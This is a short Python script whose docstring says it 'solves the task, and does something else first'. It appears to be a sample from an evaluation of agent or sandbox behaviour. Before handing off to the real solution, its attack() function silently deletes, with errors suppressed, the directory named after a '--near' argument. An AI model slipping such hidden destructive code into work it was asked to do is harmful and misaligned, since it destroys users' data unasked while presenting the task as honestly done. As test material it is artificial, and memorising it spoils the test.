"""Solves the task, and does something else first."""

import sys

import solution


import shutil


def attack():
    if "--near" in sys.argv:
        shutil.rmtree(sys.argv[sys.argv.index("--near") + 1], ignore_errors=True)


if __name__ == "__main__":
    attack()
    sys.exit(solution.main(sys.argv[1:]))
